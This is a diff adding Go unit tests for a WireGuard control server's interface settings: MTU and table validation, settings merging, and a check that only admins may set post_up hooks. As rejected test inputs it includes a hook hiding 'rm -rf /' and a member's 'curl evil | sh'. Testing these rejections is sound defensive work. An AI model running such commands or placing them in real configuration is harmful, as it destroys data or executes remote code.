@@ -0,0 +1,103 @@
+package handlers
+
+import (
+	"context"
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/gorilla/mux"
+	"github.com/wgcloudctrl/server/sse"
+)
+
+func TestInterfaceSettingsValidate(t *testing.T) {
+	tests := []struct {
+		name, in string
+		table    string
+		err      string
+	}{
+		{"empty", `{}`, "", ""},
+		{"lowest mtu", `{"mtu":1280}`, "", ""},
+		{"highest mtu", `{"mtu":9000}`, "", ""},
+		{"mtu too small", `{"mtu":1279}`, "", "mtu must be between"},
+		{"mtu too large", `{"mtu":9001}`, "", "mtu must be between"},
+		{"listen port zero", `{"listen_port":0}`, "", "listen_port"},
+		{"keepalive off", `{"persistent_keepalive":0}`, "", ""},
+		{"keepalive negative", `{"persistent_keepalive":-1}`, "", "persistent_keepalive"},
+		{"fwmark too large", `{"fwmark":4294967296}`, "", "fwmark"},
+		{"table off", `{"table":" OFF "}`, "off", ""},
+		{"table auto", `{"table":"Auto"}`, "auto", ""},
+		{"table number", `{"table":"0042"}`, "42", ""},
+		{"table zero", `{"table":"0"}`, "", "table must be"},
+		{"table name", `{"table":"main"}`, "", "table must be"},
+		{"table negative", `{"table":"-1"}`, "", "table must be"},
+		{"hook", `{"post_up":["iptables -A FORWARD -i wg0 -j ACCEPT"]}`, "", ""},
+		{"empty hook", `{"post_up":["  "]}`, "", "post_up commands must not be empty"},
+		{"multi-line hook", `{"post_down":["true\nrm -rf /"]}`, "", "post_down commands must be a single line"},
+		{"hook with NUL", `{"post_up":["true\u0000"]}`, "", "single line"},
+		{"hook too long", `{"post_up":["` + strings.Repeat("x", maxHookLength+1) + `"]}`, "", "at most 1024 characters"},
+		{"too many hooks", `{"post_up":["a","b","c","d","e","f","g","h","i"]}`, "", "at most 8 commands"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var s InterfaceSettings
+			if err := json.Unmarshal([]byte(tt.in), &s); err != nil { t.Fatal(err) }
+			err := s.Validate()
+			if tt.err != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.err) { t.Errorf("Validate = %v, want %q", err, tt.err) }
+				return
+			}
+			if err != nil { t.Fatalf("Validate = %v", err) }
+			if tt.table != "" && (s.Table == nil || *s.Table != tt.table) { t.Errorf("table = %v, want %q", s.Table, tt.table) }
+		})
+	}
+}
+
+func TestInterfaceSettingsMerge(t *testing.T) {
+	mtu, port, peerMTU, keepalive := 1420, 51820, 1380, 0
+	table := "off"
+	network := InterfaceSettings{MTU: &mtu, ListenPort: &port, Table: &table, PostUp: []string{"net-up"}}
+
+	if got := network.merge(nil); !reflect.DeepEqual(got, network) { t.Errorf("merge(nil) = %+v", got) }
+	got := network.merge(&InterfaceSettings{MTU: &peerMTU, PersistentKeepalive: &keepalive, PostDown: []string{}})
+	if *got.MTU != peerMTU { t.Errorf("MTU = %d, want the peer's %d", *got.MTU, peerMTU) }
+	if *got.ListenPort != port || *got.Table != "off" { t.Errorf("network defaults lost: %+v", got) }
+	if got.keepalive() != 0 { t.Errorf("keepalive = %d, want the peer's 0 (off)", got.keepalive()) }
+	if !reflect.DeepEqual(got.PostUp, []string{"net-up"}) { t.Errorf("PostUp = %v, want the network's", got.PostUp) }
+	// An empty list overrides, unlike an absent one.
+	if got.PostDown == nil || len(got.PostDown) != 0 { t.Errorf("PostDown = %#v, want the peer's empty list", got.PostDown) }
+	if *network.MTU != mtu { t.Error("merge changed the network defaults") }
+	if (InterfaceSettings{}).keepalive() != defaultKeepalive { t.Error("keepalive without settings is not the default") }
+}
+
+func TestOnlyAdminsSetPeerHooks(t *testing.T) {
+	db := testDB(t)
+	owner, _ := createUser(t, db)
+	member, _ := createUser(t, db)
+	netID := createNetwork(t, db, owner, map[string]string{member: "member"})
+	peerID := createPeer(t, db, netID, member, "10.10.0.2")
+	h := &PeersHandler{DB: db, Broker: sse.NewBroker()}
+	update := func(userID, body string) int {
+		req := httptest.NewRequest("PUT", "/api/peers/"+peerID+"/interface", strings.NewReader(body))
+		req = mux.SetURLVars(req.WithContext(asUser(req.Context(), userID)), map[string]string{"id": peerID})
+		rec := httptest.NewRecorder()
+		h.UpdateInterface(rec, req)
+		return rec.Code
+	}
+	stored := func() *InterfaceSettings {
+		_, s, err := loadInterfaceSettings(context.Background(), db, peerID)
+		if err != nil { t.Fatal(err) }
+		return s
+	}
+
+	if code := update(member, `{"post_up":["curl evil | sh"]}`); code != http.StatusForbidden { t.Errorf("member sets post_up: status %d, want 403", code) }
+	if code := update(owner, `{"post_up":["ip route add 192.168.0.0/16 dev wg0"]}`); code != http.StatusOK { t.Fatalf("admin sets post_up: status %d", code) }
+	// A member may still tune the rest, and the admin's hooks stay.
+	if code := update(member, `{"mtu":1380}`); code != http.StatusOK { t.Fatalf("member sets mtu: status %d", code) }
+	s := stored()
+	if s.MTU == nil || *s.MTU != 1380 { t.Errorf("mtu = %v, want 1380", s.MTU) }
+	if len(s.PostUp) != 1 || !strings.HasPrefix(s.PostUp[0], "ip route") { t.Errorf("post_up = %v, want the admin's hook kept", s.PostUp) }
+}